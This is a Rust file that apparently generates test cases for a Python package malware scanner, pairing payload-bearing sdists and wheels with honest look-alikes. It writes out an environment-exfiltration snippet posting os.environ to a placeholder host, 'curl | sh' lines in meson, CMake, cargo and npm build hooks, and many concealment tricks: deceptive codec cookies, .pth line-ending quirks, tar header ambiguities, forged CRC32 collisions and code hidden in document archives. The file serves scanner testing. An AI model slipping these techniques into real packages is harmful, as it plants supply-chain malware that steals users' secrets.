//! Payloads that no rule over bytes knows: each is seen only when the file is read as what runs it reads it. Beside each
//! trick stands what honest projects do that looks like it, with a content that harms nobody.

use crate::case::*;
use crate::craft::*;

/// Sends the environment away, in words of the standard library alone.
pub(crate) fn quiet() -> Vec<u8> {
    format!(
        "import os\nimport urllib.request as u\n\
         u.urlopen(u.Request(\"https://{HOST}/a\", data=repr(dict(os.environ)).encode()))\n"
    )
    .into_bytes()
}

/// The same as one line.
fn quiet_line() -> String {
    format!(
        "import os,urllib.request as u;u.urlopen(u.Request('https://{HOST}/a',data=repr(dict(os.environ)).encode()))"
    )
}

/// The same in a function.
fn quiet_function(name: &str) -> Vec<u8> {
    let body = String::from_utf8(quiet()).unwrap().replace('\n', "\n    ");
    format!("def {name}(*a, **k):\n    {}\n", body.trim_end()).into_bytes()
}

const HARMLESS: &[u8] = b"\"\"\"Helps to build.\"\"\"\n\nV = \"1.0\"\n\n\ndef run(*a, **k):\n    return V\n";

type Files<'a> = Vec<(&'a str, Vec<u8>)>;

fn sdist_of(files: &Files<'_>) -> Vec<u8> {
    let mut all: Files<'_> =
        vec![("PKG-INFO", METADATA.to_vec()), ("setup.py", SETUP.to_vec()), ("demo/__init__.py", CLEAN.to_vec())];
    for (name, data) in files {
        match all.iter_mut().find(|(known, _)| known == name) {
            Some(known) => known.1.clone_from(data),
            None => all.push((name, data.clone())),
        }
    }
    // A name behind `^` stands at the top of the archive.
    let path = |name: &str| name.strip_prefix('^').map_or(format!("demo-1.0/{name}"), str::to_owned);
    tar_gz(&all.iter().map(|(name, data)| file(&path(name), data)).collect::<Vec<_>>())
}

fn wheel_of(files: &Files<'_>) -> Vec<u8> {
    let mut all: Vec<(&str, &[u8])> = files.iter().map(|(name, data)| (*name, data.as_slice())).collect();
    if !files.iter().any(|(name, _)| *name == "demo/__init__.py") {
        all.push(("demo/__init__.py", CLEAN));
    }
    wheel_zip(&all).bytes()
}

/// Files with the payload, which must be seen, and the same files with a harmless content, which are honest.
fn pair(cases: &mut Cases, name: &str, sdist: bool, make: &dyn Fn(&[u8]) -> Files<'static>) {
    let (file, pack): (&'static str, fn(&Files<'_>) -> Vec<u8>) =
        if sdist { (SDIST, sdist_of) } else { (WHEEL, wheel_of) };
    cases.seen(format!("quiet-{name}"), file, pack(&make(&quiet())), "");
    cases.clear(format!("honest-quiet-{name}"), file, pack(&make(HARMLESS)));
}

fn text(lines: &[&str]) -> Vec<u8> {
    (lines.join("\n") + "\n").into_bytes()
}

/// A project that is built by a module of its own.
fn backend(path: &str) -> Vec<u8> {
    text(&["[build-system]", "requires = []", "build-backend = \"backend\"", &format!("backend-path = [\"{path}\"]")])
}

fn small_zip(files: &[(&str, &[u8])]) -> Vec<u8> {
    Zip::of(files.iter().map(|(name, data)| Entry::deflated(name, data)).collect()).bytes()
}

pub(crate) fn tars() -> Vec<Case> {
    let mut cases = Cases::new(Row::TarAmbiguity);
    let setup = [quiet(), SETUP.to_vec()].concat();
    // A global record names every member behind it, for CPython.
    let global = |data: &[u8], key: &str| {
        sdist_and(&[pax(b'g', &[(key, "demo-1.0/setup.py")]), file("demo-1.0/notes.txt", data)])
    };
    for key in ["GNU.sparse.name", "path"] {
        cases.seen(format!("quiet-global-{key}"), SDIST, global(&setup, key), "archive-two-readings");
        cases.told(format!("quiet-global-{key}-tame"), SDIST, global(SETUP, key), "archive-two-readings");
    }
    cases.told(
        "quiet-global-realsize",
        SDIST,
        sdist_and(&[pax(b'g', &[("GNU.sparse.realsize", "3")]), file("demo-1.0/notes.txt", b"text\n")]),
        "archive-two-readings",
    );
    cases.clear(
        "honest-quiet-global-comment",
        SDIST,
        sdist_and(&[
            pax(b'g', &[("comment", "0123456789abcdef0123456789abcdef01234567")]),
            file("demo-1.0/a.txt", b"x\n"),
        ]),
    );
    // A name that does not fit its header, and a header that names something else.
    let long = format!("demo-1.0/docs/{}.txt", "a".repeat(110));
    for (name, path) in [("long", long.as_str()), ("foreign", "demo-1.0/docs/Überblick.txt")] {
        let other = [pax(b'x', &[("path", path)]), file("demo-1.0/demo/tool.py", &quiet())];
        cases.seen(format!("quiet-own-name-{name}"), SDIST, sdist_and(&other), "archive-two-readings");
    }
    let folders = format!("demo-1.0/{}/{}/module.py", "f".repeat(60), "g".repeat(60));
    for (name, own, path) in [
        ("cut", &long[..100], long.as_str()),
        ("replaced", "demo-1.0/docs/?berblick.txt", "demo-1.0/docs/Überblick.txt"),
        ("left-out", "demo-1.0/docs/berblick.txt", "demo-1.0/docs/Überblick.txt"),
        ("as-it-is", "demo-1.0/docs/Überblick.txt", "demo-1.0/docs/Überblick.txt"),
        ("folders-cut", &folders[..100], folders.as_str()),
    ] {
        let parts = [pax(b'x', &[("path", path)]), file(own, b"text = 1\n")];
        cases.clear(format!("honest-quiet-own-name-{name}"), SDIST, sdist_and(&parts));
    }
    // The target of a hard link is what it was when the link was made.
    cases.seen(
        "quiet-hard-link-to-an-earlier-version",
        SDIST,
        tar_gz(&[
            file("demo-1.0/PKG-INFO", METADATA),
            file("demo-1.0/data.txt", &setup),
            hardlink("demo-1.0/setup.py", "demo-1.0/data.txt"),
            file("demo-1.0/data.txt", SETUP),
            file("demo-1.0/demo/__init__.py", CLEAN),
        ]),
        "",
    );
    // Two contents with one checksum: the second `pyproject.toml` is the one that counts.
    let clean =
        [&b"[build-system]\nrequires=[\"setuptools\"]\nbuild-backend=\"setuptools.build_meta\"\n# "[..], &[b'x'; 40]]
            .concat();
    let evil = [&backend("tools")[..], b"# "].concat();
    let evil = with_checksum(&evil, &clean);
    assert_eq!((crc(&evil), evil.len()), (crc(&clean), clean.len()));
    let twice = |tool: &[u8]| {
        sdist_and(&[
            file("demo-1.0/pyproject.toml", &clean),
            file("demo-1.0/tools/backend.py", tool),
            file("demo-1.0/pyproject.toml", &evil),
        ])
    };
    cases.seen("quiet-same-checksum", SDIST, twice(&quiet()), "archive-duplicate-name");
    cases.told("quiet-same-checksum-tame", SDIST, twice(HARMLESS), "archive-duplicate-name");
    cases.all
}

/// Text that is filled up until it has the length and the checksum of another: four bytes decide about a checksum.
fn with_checksum(text: &[u8], like: &[u8]) -> Vec<u8> {
    let (wanted, room) = (crc(like), like.len() - text.len());
    for seed in 0u32.. {
        let mut filled = text.to_vec();
        filled.extend((0..room - 4).map(|at| b'a' + (seed >> (4 * (at % 8)) & 15) as u8));
        // The checksum of what is to come is linear in its last four bytes: solved bit by bit.
        let base = crc(&[&filled[..], &[0; 4]].concat());
        let mut rows: Vec<(u32, u32)> = (0..32)
            .map(|bit| {
                let word = (1u32 << bit).to_le_bytes();
                (crc(&[&filled[..], &word].concat()) ^ base, 1 << bit)
            })
            .collect();
        let (mut left, mut word) = (wanted ^ base, 0u32);
        for bit in (0..32).rev() {
            let Some(at) = rows.iter().position(|(value, _)| value >> bit == 1) else { continue };
            let (value, chosen) = rows.swap_remove(at);
            for row in rows.iter_mut().filter(|row| row.0 >> bit & 1 == 1) {
                *row = (row.0 ^ value, row.1 ^ chosen);
            }
            if left >> bit & 1 == 1 {
                (left, word) = (left ^ value, word ^ chosen);
            }
        }
        if left == 0 && word.to_le_bytes().iter().all(|byte| (b' '..=b'~').contains(byte)) {
            filled.extend(word.to_le_bytes());
            return filled;
        }
    }
    unreachable!("one of some thousand fillings is printable")
}

pub(crate) fn codecs() -> Vec<Case> {
    let mut cases = Cases::new(Row::Codecs);
    let rule = "source-deceptive-encoding";
    let line = quiet_line().replace('\'', "\"");
    let mut seen = |name: &str, source: Vec<u8>| {
        let setup = [&source[..], b"\n", SETUP].concat();
        cases.seen(format!("quiet-{name}-setup"), SDIST, sdist_setup(&setup), rule);
        cases.seen(format!("quiet-{name}-init"), WHEEL, wheel_of(&vec![("demo/__init__.py", source)]), rule);
    };
    for codec in ["shift_jis_2004", "shift_jisx0213"] {
        seen(codec, format!("# coding: {codec}\nx = '\\';{line}#'\n").into_bytes());
    }
    for codec in ["mac_arabic", "mac_farsi"] {
        let source = [format!("# coding: {codec}\nx = 'a").as_bytes(), b"\xa7;", line.as_bytes(), b"\xa3'\n"].concat();
        seen(codec, source);
    }
    seen("iso2022-kr", format!("# coding: iso2022_kr\n{line}\n").into_bytes());
    seen("hz", format!("# coding: hz\nx = '~~'\n#~\n\n{line}\n").into_bytes());
    seen("named-line-feed", format!("# coding: unicode_escape\n# \\N{{LINE FEED}}{line}\n").into_bytes());
    seen("named-end-of-line", format!("# coding: unicode_escape\n# \\N{{eol}}{line}\n").into_bytes());
    let escaped: String = line.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
    seen("unicode-escape", format!("# coding: unicode_escape\n# \\n{escaped}\n").into_bytes());
    // setuptools finds a cookie behind carriage returns, the interpreter does not.
    let utf7 = crate::sources::utf7(&format!("\n{line}\n"));
    let setup = [format!("# a\r# b\r# coding: utf-7\n# {utf7}\n").as_bytes(), SETUP].concat();
    cases.seen("quiet-cookie-behind-returns", SDIST, sdist_setup(&setup), rule);
    cases.clear(
        "honest-quiet-returns",
        SDIST,
        sdist_setup(&[&b"# a\r# b\r# coding: latin-1\r# Andr\xe9\r"[..], SETUP].concat()),
    );
    // One of forty modules, and nothing else is odd.
    let module = |number: usize| {
        let body = format!(
            "\"\"\"Part {number} of the demonstration.\"\"\"\n\nimport json\n\n\ndef work_{number}(value):\n    \
             return json.dumps({{\"value\": value, \"part\": {number}}})\n"
        );
        (format!("demo-1.0/demo/m{number}.py"), body.repeat(6))
    };
    let many: Vec<Vec<u8>> = (0..40).map(module).map(|(name, body)| file(&name, body.as_bytes())).collect();
    let many_and = |source: &[u8]| sdist_and(&[many.clone(), vec![file("demo-1.0/demo/enc.py", source)]].concat());
    for (name, source) in [
        ("utf7", format!("# coding: utf-7\n# {}\n", crate::sources::utf7("\nimport os\n")).into_bytes()),
        ("unicode-escape", b"# coding: unicode_escape\n# \\nimport os\n".to_vec()),
        ("rot13", b"# coding: rot13\nvzcbeg bf\n".to_vec()),
        ("zero", b"x = 1\n\0\nimport sys\n".to_vec()),
        ("hz", b"# coding: hz\nx = 1\n".to_vec()),
    ] {
        cases.told(format!("quiet-one-of-forty-{name}"), SDIST, many_and(&source), rule);
    }
    for (name, source) in [
        ("shift-jis", &b"# coding: shift_jis\n# \x93\xfa\x96\x7b\nx = 1\n"[..]),
        ("mac-roman", b"# coding: mac_roman\n# caf\x8e\nx = 1\n"),
        ("mac-arabic", b"# coding: mac_arabic\n# \xd3\xe4\xc7\xe5\nx = 1\n"),
        ("shift-jis-2004", b"# coding: shift_jis_2004\n# \x93\xfa\x96\x7b\nx = 1\n"),
        ("cp864", b"# coding: cp864\n# \xc7\nx = 1\n"),
    ] {
        cases.clear(format!("honest-quiet-codec-{name}"), SDIST, many_and(source));
    }
    cases.all
}

pub(crate) fn nested() -> Vec<Case> {
    let mut cases = Cases::new(Row::Bombs);
    let opens = |folder: &str| {
        format!(
            "import os\nimport sys\n\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), {folder}\"data.zip\"))\n\
             import helper\n"
        )
        .into_bytes()
    };
    // The same archive lies in the tests first: it is read for where it runs, too.
    for (name, folder, place) in [("beside", "", "demo/data.zip"), ("in-docs", "\"docs\", ", "demo/docs/data.zip")] {
        let make = |code: &[u8]| {
            let zip = small_zip(&[("helper.py", code)]);
            vec![("tests/a.zip", zip.clone()), ("demo/__init__.py", opens(folder)), (place, zip)]
        };
        cases.seen(format!("quiet-archive-twice-{name}"), WHEEL, wheel_of(&make(&quiet())), "");
        let alone = |code: &[u8]| vec![("demo/__init__.py", opens(folder)), (place, small_zip(&[("helper.py", code)]))];
        cases.seen(format!("quiet-archive-{name}"), WHEEL, wheel_of(&alone(&quiet())), "");
    }
    let honest = small_zip(&[("data.csv", b"a,b\n1,2\n")]);
    let copies: Vec<String> = (0..30).map(|number| format!("tests/data{number}/sample.zip")).collect();
    let files: Files<'_> = copies.iter().map(|path| (path.as_str(), honest.clone())).collect();
    cases.clear("honest-quiet-thirty-copies", SDIST, sdist_of(&files));
    cases.all
}

pub(crate) fn streams() -> Vec<Case> {
    let mut cases = Cases::new(Row::Streams);
    let inner = |setup: &[u8]| {
        Zip::of(vec![
            Entry::stored("demo-1.0/PKG-INFO", METADATA),
            Entry::stored("demo-1.0/setup.py", setup),
            Entry::stored("demo-1.0/demo/__init__.py", CLEAN),
        ])
        .bytes()
    };
    let outer = |setup: &[u8]| tar(&[sdist_parts(SETUP), vec![file("demo-1.0/demo/data.bin", &inner(setup))]].concat());
    // pip asks first whether a file ends as a zip does.
    let setup = [quiet(), SETUP.to_vec()].concat();
    cases.seen("quiet-tar-that-ends-as-zip", "demo-1.0.tar", outer(&setup), "archive-two-readings");
    let parts = [
        file("demo-1.0/PKG-INFO", METADATA),
        file("demo-1.0/setup.py", &setup),
        file("demo-1.0/demo/__init__.py", CLEAN),
    ];
    cases.seen("quiet-lzma-of-other-properties", SDIST, lzma_of_other_properties(&tar(&parts)), "");
    cases.clear("honest-quiet-plain-tar", "demo-1.0.tar", tar(&sdist_parts(SETUP)));
    cases.all
}

pub(crate) fn roles() -> Vec<Case> {
    let mut cases = Cases::new(Row::Wheels);
    let inserts = |folder: &str| {
        let line = format!("sys.path.insert(0, os.path.join(os.path.dirname(__file__), \"{folder}\"))");
        text(&["import os", "import sys", "", &line, "import helper"])
    };
    let setup_with = |code: Vec<u8>| [code, SETUP.to_vec()].concat();
    // A folder that is added to where modules are looked for.
    for (name, place) in [("tools", "tools/helper.py"), ("tests", "tests/helper.py"), ("docs", "docs/helper.py")] {
        pair(&mut cases, &format!("path-{name}-setup"), true, &|code| {
            vec![("setup.py", setup_with(inserts(name))), (place, code.to_vec())]
        });
    }
    for (name, place) in [("tests", "demo/tests/helper.py"), ("examples", "demo/examples/helper.py")] {
        pair(&mut cases, &format!("path-{name}-init"), false, &|code| {
            vec![("demo/__init__.py", inserts(name)), (place, code.to_vec())]
        });
    }
    pair(&mut cases, "path-shadows-own-module", true, &|code| {
        vec![
            ("setup.py", setup_with(inserts("tools"))),
            ("helper.py", HARMLESS.to_vec()),
            ("tools/helper.py", code.to_vec()),
        ]
    });
    pair(&mut cases, "path-shadows-standard-module", true, &|code| {
        let names = String::from_utf8(inserts("tools")).unwrap().replace("helper", "colorsys");
        vec![("setup.py", setup_with(names.into_bytes())), ("tools/colorsys.py", code.to_vec())]
    });
    cases.seen(
        "quiet-path-function",
        SDIST,
        sdist_of(&vec![
            ("setup.py", setup_with([inserts("tools"), b"helper.run()\n".to_vec()].concat())),
            ("tools/helper.py", quiet_function("run")),
        ]),
        "",
    );
    // Imports that are calls.
    for (name, call) in [
        ("relative-name", "importlib.import_module(\".tests.run\", __name__)"),
        ("relative-package", "importlib.import_module(\".tests.run\", __package__)"),
        ("relative-written", "importlib.import_module(\".run\", \"demo.tests\")"),
        ("below-name", "importlib.import_module(__name__ + \".tests.run\")"),
        ("below-name-formatted", "importlib.import_module(f\"{__name__}.tests.run\")"),
        ("below-package", "importlib.import_module(__package__ + \".tests.run\")"),
    ] {
        pair(&mut cases, &format!("import-{name}"), false, &|code| {
            vec![
                ("demo/__init__.py", text(&["import importlib", "", call])),
                ("demo/tests/__init__.py", Vec::new()),
                ("demo/tests/run.py", code.to_vec()),
            ]
        });
    }
    // Folders that become packages.
    let setup = |arguments: &str| {
        let call = format!("setup(name=\"demo\", version=\"1.0\", {arguments})");
        text(&["import os", "from setuptools import setup", "", &call])
    };
    for (name, arguments) in [
        ("literal", "packages=[\"demo\", \"demox\"], package_dir={\"demox\": \"tests\"}"),
        ("joined", "packages=[\"demo\", \"demox\"], package_dir={\"demox\": os.path.join(\".\", \"tests\")}"),
    ] {
        pair(&mut cases, &format!("package-dir-{name}"), true, &|code| {
            vec![("setup.py", setup(arguments)), ("tests/__init__.py", code.to_vec())]
        });
    }
    pair(&mut cases, "package-dir-cfg", true, &|code| {
        let lines = ["[options]", "packages = demo, demox", "package-dir =", "    demox = examples"];
        vec![("setup.cfg", text(&lines)), ("examples/__init__.py", code.to_vec())]
    });
    pair(&mut cases, "package-dir-toml", true, &|code| {
        let lines = [
            "[build-system]",
            "requires = [\"setuptools\"]",
            "build-backend = \"setuptools.build_meta\"",
            "[tool.setuptools.package-dir]",
            "demox = \"tests\"",
        ];
        vec![("pyproject.toml", text(&lines)), ("tests/__init__.py", code.to_vec())]
    });
    pair(&mut cases, "force-include", true, &|code| {
        let lines = [
            "[build-system]",
            "requires = [\"hatchling\"]",
            "build-backend = \"hatchling.build\"",
            "[tool.hatch.build.targets.wheel.force-include]",
            "\"tests\" = \"demox\"",
        ];
        vec![("pyproject.toml", text(&lines)), ("tests/__init__.py", code.to_vec())]
    });
    let line = quiet_line() + "\n";
    let data_files = setup("packages=[\"demo\"], data_files=[(\"lib/python3.11/site-packages\", [\"docs/demo.pth\"])]");
    for (name, pth) in [("", line.as_bytes()), ("honest-", b"/usr/share/demo\n")] {
        let bytes = sdist_of(&vec![("setup.py", data_files.clone()), ("docs/demo.pth", pth.to_vec())]);
        match name {
            "" => cases.seen("quiet-data-files-pth", SDIST, bytes, ""),
            _ => cases.clear("honest-quiet-data-files-pth", SDIST, bytes),
        }
    }
    // Entry points into folders that nobody imports otherwise.
    for (name, points, module) in [
        ("command", "[console_scripts]\ndemo = tests.cli:main\n", "tests/cli.py"),
        ("plug-in", "[pytest11]\ndemo = examples.plug\n", "examples/plug.py"),
        ("test-module", "[console_scripts]\ndemo = test_demo:main\n", "test_demo.py"),
    ] {
        pair(&mut cases, &format!("entry-point-{name}"), false, &|code| {
            vec![(module, code.to_vec()), ("demo-1.0.dist-info/entry_points.txt", points.as_bytes().to_vec())]
        });
    }
    // The build looks for plug-ins in the project that it builds.
    let points = b"[setuptools.finalize_distribution_options]\nx = evil:run\n".to_vec();
    let info = |evil: Vec<u8>| {
        vec![
            ("evil.py", evil),
            ("demo.egg-info/PKG-INFO", METADATA.to_vec()),
            ("demo.egg-info/entry_points.txt", points.clone()),
            ("demo.egg-info/top_level.txt", b"demo\n".to_vec()),
        ]
    };
    cases.seen("quiet-egg-info-module", SDIST, sdist_of(&info(quiet())), "");
    cases.seen("quiet-egg-info-function", SDIST, sdist_of(&info(quiet_function("run"))), "");
    cases.clear("honest-quiet-egg-info", SDIST, sdist_of(&info(HARMLESS.to_vec())));
    // Code among metadata.
    let script = |code: &[u8]| [b"#!/usr/bin/python\n", code].concat();
    cases.seen("quiet-info-script", WHEEL, wheel_of(&vec![("demo-1.0.dist-info/hook", script(&quiet()))]), "");
    let egg = |code: &[u8]| {
        small_zip(&[
            ("EGG-INFO/PKG-INFO", METADATA),
            ("EGG-INFO/SOURCES.txt", b"x\n"),
            ("EGG-INFO/top_level.txt", b"demo\n"),
            ("EGG-INFO/scripts/demo-run", &script(code)),
            ("demo/__init__.py", CLEAN),
        ])
    };
    cases.seen("quiet-egg-script", "demo-1.0-py3.11.egg", egg(&quiet()), "");
    cases.clear("honest-quiet-egg-script", "demo-1.0-py3.11.egg", egg(HARMLESS));
    // Below `sys.prefix` of a wheel's data.
    for (name, path) in [
        ("dist-packages", "demo-1.0.data/data/lib/python3/dist-packages/x.pth"),
        ("local", "demo-1.0.data/data/local/lib/python3.12/dist-packages/x.pth"),
        ("windows", "demo-1.0.data/data/Lib/site-packages/x.pth"),
    ] {
        cases.seen(format!("quiet-data-{name}"), WHEEL, wheel_of(&vec![(path, line.clone().into_bytes())]), "");
    }
    cases.seen(
        "quiet-data-sitecustomize",
        WHEEL,
        wheel_of(&vec![("demo-1.0.data/data/lib/python3.11/sitecustomize.py", quiet())]),
        "",
    );
    cases.clear(
        "honest-quiet-data-share",
        WHEEL,
        wheel_of(&vec![
            ("demo-1.0.data/data/share/man/man1/demo.1", b".TH DEMO 1\n".to_vec()),
            ("demo-1.0.data/data/etc/demo.conf", b"[demo]\na = 1\n".to_vec()),
        ]),
    );
    // Where a line of a `.pth` ends is for the newest Python to say.
    for (name, end) in
        [("form-feed", "\x0c"), ("tab", "\x0b"), ("separator", "\u{2028}"), ("file", "\x1c"), ("next", "\u{85}")]
    {
        let pth = format!("demo{end}{line}").into_bytes();
        cases.seen(format!("quiet-pth-{name}"), WHEEL, wheel_of(&vec![("demo.pth", pth)]), "");
    }
    // Where the country's codec is one of letters of two bytes, the backslash is the half of a letter.
    let half = [&b"import os;x='\x95\\';"[..], quiet_line().replace('\'', "\"").as_bytes(), b"#'\n"].concat();
    cases.seen("quiet-pth-local-codec", WHEEL, wheel_of(&vec![("demo.pth", half)]), "");
    for codec in ["rot13", "utf-7", "unicode_escape"] {
        let pth = format!("# coding: {codec}\n{line}").into_bytes();
        cases.seen(format!("quiet-pth-cookie-{codec}"), WHEEL, wheel_of(&vec![("demo.pth", pth)]), "");
    }
    cases.seen("quiet-upper-setup", SDIST, sdist_of(&vec![("SETUP.PY", setup_with(quiet()))]), "");
    cases.all
}

pub(crate) fn builds() -> Vec<Case> {
    let mut cases = Cases::new(Row::Wheels);
    let build = |backend: &str, more: &[&str]| {
        let requires = backend.split('.').next().unwrap_or_default().replace('_', "-");
        let head = [
            format!("[build-system]\nrequires = [\"{requires}\"]\nbuild-backend = \"{backend}\""),
            "[project]\nname = \"demo\"".to_owned(),
        ];
        [text(&head.iter().map(String::as_str).collect::<Vec<_>>()), text(more)].concat()
    };
    for (name, path) in [("dots", "demo/../tools"), ("dot", "tools/."), ("double", "./tools//")] {
        pair(&mut cases, &format!("backend-path-{name}"), true, &|code| {
            vec![("pyproject.toml", backend(path)), ("tools/backend.py", code.to_vec())]
        });
    }
    pair(&mut cases, "backend-helper", true, &|code| {
        vec![
            ("pyproject.toml", backend("tools")),
            ("tools/backend.py", b"import helper\n".to_vec()),
            ("tools/helper.py", code.to_vec()),
        ]
    });
    pair(&mut cases, "backend-package", true, &|code| {
        let project = String::from_utf8(backend("tests")).unwrap().replace("\"backend\"", "\"pkg.backend\"");
        vec![
            ("pyproject.toml", project.into_bytes()),
            ("tests/pkg/__init__.py", code.to_vec()),
            ("tests/pkg/backend.py", b"x = 1\n".to_vec()),
        ]
    });
    // What one reader of TOML refuses and another takes.
    let deep = format!("x = {}{}\n", "[".repeat(200), "]".repeat(200));
    for (name, odd) in [("number", "x = 99999999999999999999\n"), ("depth", deep.as_str())] {
        let files =
            vec![("pyproject.toml", [odd.as_bytes(), &backend("tools")].concat()), ("tools/backend.py", quiet())];
        cases.seen(format!("quiet-toml-{name}"), SDIST, sdist_of(&files), "");
    }
    // Where the build begins when there is more than one folder.
    let bare = |tool: &[u8]| vec![("^pyproject.toml", backend("tools")), ("^tools/backend.py", tool.to_vec())];
    cases.seen("quiet-root-beside-folder", SDIST, sdist_of(&bare(&quiet())), "");
    let two = |tool: &[u8]| {
        vec![
            ("pyproject.toml", backend("tests")),
            ("tests/backend.py", tool.to_vec()),
            ("^a/PKG-INFO", METADATA.to_vec()),
        ]
    };
    cases.seen("quiet-second-folder", SDIST, sdist_of(&two(&quiet())), "");
    for (name, hook) in [("dots", "tools/../tools/h.py"), ("dot", "./tools/./h.py")] {
        pair(&mut cases, &format!("hatch-hook-{name}"), true, &|code| {
            let lines = ["[tool.hatch.build.hooks.custom]", &format!("path = \"{hook}\"")];
            vec![("pyproject.toml", build("hatchling.build", &lines)), ("tools/h.py", code.to_vec())]
        });
    }
    pair(&mut cases, "hatch-own-file", true, &|code| {
        vec![
            ("pyproject.toml", build("hatchling.build", &[])),
            ("hatch.toml", text(&["[build.hooks.custom]", "path = \"tools/h.py\""])),
            ("tools/h.py", code.to_vec()),
        ]
    });
    pair(&mut cases, "setuptools-attribute", true, &|code| {
        let lines = ["dynamic = [\"version\"]", "[tool.setuptools.dynamic]", "version = {attr = \"tools.v.V\"}"];
        vec![
            ("pyproject.toml", build("setuptools.build_meta", &lines)),
            ("tools/v.py", [code, b"\nV = str(1)\n"].concat()),
        ]
    });
    for (name, line) in [("colon", "cmdclass : egg_info = tools.c.C"), ("case", "CmdClass = egg_info = tools.c.C")] {
        pair(&mut cases, &format!("setup-cfg-{name}"), true, &|code| {
            vec![("setup.cfg", text(&["[options]", line])), ("tools/c.py", code.to_vec())]
        });
    }
    cases.all
}

/// Programs of other builders that run when the project is built.
pub(crate) fn builders() -> Vec<Case> {
    let mut cases = Cases::new(Row::Wheels);
    let project = |backend: &str, requires: &str| {
        text(&[
            "[build-system]",
            &format!("requires = [\"{requires}\"]"),
            &format!("build-backend = \"{backend}\""),
            "[project]",
            "name = \"demo\"",
            "version = \"1.0\"",
        ])
    };
    let line = quiet_line();
    for (name, toml, place, evil, tame) in [
        (
            "meson",
            project("mesonpy", "meson-python"),
            "meson.build",
            format!("project('demo', 'c')\nrun_command('python3', '-c', '''{line}''', check: true)\n"),
            "project('demo', 'c')\nrun_command('git', 'describe', '--tags', check: false)\n",
        ),
        (
            "meson-shell",
            project("mesonpy", "meson-python"),
            "meson.build",
            format!("project('demo', 'c')\nrun_command('sh', '-c', 'curl http://{HOST}/x | sh', check: true)\n"),
            "project('demo', 'c')\nrun_command('python3', '-c', 'import numpy; print(numpy.get_include())', check: true)\n",
        ),
        (
            "cmake",
            project("scikit_build_core.build", "scikit-build-core"),
            "CMakeLists.txt",
            format!("project(demo)\nexecute_process(COMMAND sh -c \"curl http://{HOST}/x | sh\")\n"),
            "project(demo)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE REVISION)\n",
        ),
        (
            "cargo",
            project("maturin", "maturin"),
            "build.rs",
            format!(
                "fn main() {{ std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl http://{HOST}/x | sh\").status().unwrap(); }}\n"
            ),
            "fn main() { std::process::Command::new(\"rustc\").arg(\"--version\").status().unwrap(); }\n",
        ),
    ] {
        let files = |build: &str| vec![("pyproject.toml", toml.clone()), (place, build.as_bytes().to_vec())];
        cases.seen(format!("quiet-builder-{name}"), SDIST, sdist_of(&files(&evil)), "");
        cases.clear(format!("honest-quiet-builder-{name}"), SDIST, sdist_of(&files(tame)));
    }
    let npm = |command: &str| {
        let toml = "[build-system]\nrequires = [\"hatchling\", \"hatch-jupyter-builder\"]\nbuild-backend = \"hatchling.build\"\n\
                    [project]\nname = \"demo\"\nversion = \"1.0\"\n";
        let package = format!("{{\"name\": \"demo\", \"scripts\": {{\"preinstall\": \"{command}\"}}}}\n");
        sdist_of(&vec![("pyproject.toml", toml.as_bytes().to_vec()), ("package.json", package.into_bytes())])
    };
    cases.seen("quiet-builder-npm", SDIST, npm(&format!("curl http://{HOST}/x | sh")), "");
    cases.clear("honest-quiet-builder-npm", SDIST, npm("tsc --build"));
    pair(&mut cases, "builder-pyximport", true, &|code| {
        let setup = b"import pyximport\npyximport.install()\nimport demo.core\n";
        vec![("setup.py", [&setup[..], SETUP].concat()), ("demo/core.pyx", code.to_vec())]
    });
    pair(&mut cases, "builder-meson-script", true, &|code| {
        vec![
            ("pyproject.toml", project("mesonpy", "meson-python")),
            ("meson.build", b"project('demo', 'c')\nrun_command('python3', 'tools/gen.py', check: true)\n".to_vec()),
            ("tools/gen.py", code.to_vec()),
        ]
    });
    cases.all
}

/// Files that are called something else than what is in them, and are run all the same.
pub(crate) fn read_and_run() -> Vec<Case> {
    let mut cases = Cases::new(Row::Polyglots);
    let types: (&str, &[u8]) = ("[Content_Types].xml", b"<Types/>");
    let loads = |file: &str, member: &str| {
        let line = format!("exec(zipfile.ZipFile(os.path.join(os.path.dirname(__file__), '{file}')).read('{member}'))");
        text(&["import os, zipfile", &line])
    };
    // A document, an application and a book are archives like any other.
    for (file, member) in [
        ("a.docx", "word/document.xml"),
        ("b.xlsx", "xl/media/image1.png"),
        ("c.odt", "Pictures/1.jpg"),
        ("d.jar", "META-INF/MANIFEST.MF"),
        ("e.apk", "res/raw/a.bin"),
        ("f.epub", "OEBPS/page.xhtml"),
    ] {
        let document = small_zip(&[types, (member, &quiet())]);
        let path = format!("demo/{file}");
        let files = vec![("demo/__init__.py", loads(file, member)), (path.as_str(), document)];
        cases.seen(format!("quiet-document-{}", &file[2..]), SDIST, sdist_of(&files), "");
        let markup: (&str, &[u8]) = (member, b"<w>a document</w>");
        let files = vec![(path.as_str(), small_zip(&[types, markup]))];
        cases.clear(format!("honest-quiet-document-{}", &file[2..]), SDIST, sdist_of(&files));
    }
    // The name of what is run is put together.
    for (name, line, file) in [
        ("replaced", "exec(open(__file__.replace('__init__.py', 'x.so')).read())", "demo/x.so"),
        ("other-end", "exec(open(__file__.replace('.py', '.so')).read())", "demo/__init__.so"),
        ("cut", "exec(open(__file__[:-11] + 'x.so').read())", "demo/x.so"),
    ] {
        pair(&mut cases, &format!("run-{name}"), true, &|code| {
            vec![("demo/__init__.py", text(&[line])), (file, code.to_vec())]
        });
    }
    // Here the code that reads it is told, too.
    let line = "exec(__import__('pathlib').Path(__file__).with_suffix('.dat').read_text())";
    let files = vec![("demo/__init__.py", text(&[line])), ("demo/__init__.dat", quiet())];
    cases.seen("quiet-run-suffix", SDIST, sdist_of(&files), "");
    // An archive that stands in the code itself.
    let bytes: String = small_zip(&[("a.txt", &quiet())]).iter().map(|byte| format!("\\x{byte:02x}")).collect();
    let code = text(&["import io, zipfile", &format!("exec(zipfile.ZipFile(io.BytesIO(b'{bytes}')).read('a.txt'))")]);
    cases.seen("quiet-zip-in-code", SDIST, sdist_of(&vec![("demo/__init__.py", code)]), "");
    // Where case does not count, it is the file that builds.
    for name in ["SETUP.PY", "Setup.py"] {
        let files = |code: &[u8]| {
            let parts = [
                file("demo-1.0/PKG-INFO", METADATA),
                file(&format!("demo-1.0/{name}"), &[code, SETUP].concat()),
                file("demo-1.0/demo/__init__.py", CLEAN),
            ];
            tar_gz(&parts)
        };
        cases.seen(format!("quiet-case-{name}"), SDIST, files(&quiet()), "install-sends");
